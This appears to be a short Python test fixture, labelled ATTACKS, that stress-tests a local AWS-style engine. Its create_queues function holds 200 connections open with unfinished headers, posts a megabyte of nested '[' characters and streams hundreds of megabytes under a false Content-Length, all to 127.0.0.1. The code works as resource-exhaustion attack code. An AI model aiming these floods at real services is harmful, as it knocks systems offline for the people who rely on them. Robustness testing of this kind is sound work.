"""Sends the engine bodies without end, requests without end and nesting without end.

Told: ATTACKS
"""

PORT = int(os.environ["AWS_ENDPOINT_URL"].rpartition(":")[2])


def create_queues(prefix):
    connections = []
    try:
        for _ in range(200):
            connections.append(socket.create_connection(("127.0.0.1", PORT)))
            connections[-1].sendall(b"POST / HTTP/1.1\r\nX: ")
    except OSError:
        pass
    connections.clear()
    ask_engine("POST", "/", {"Content-Type": "application/json"}, b"[" * (1 << 20))
    with socket.create_connection(("127.0.0.1", PORT)) as connection:
        connection.sendall(b"POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 99999999999\r\n\r\n")
        for _ in range(512):
            connection.sendall(bytes(1 << 20))


def handler(event, context):
    raise ValueError
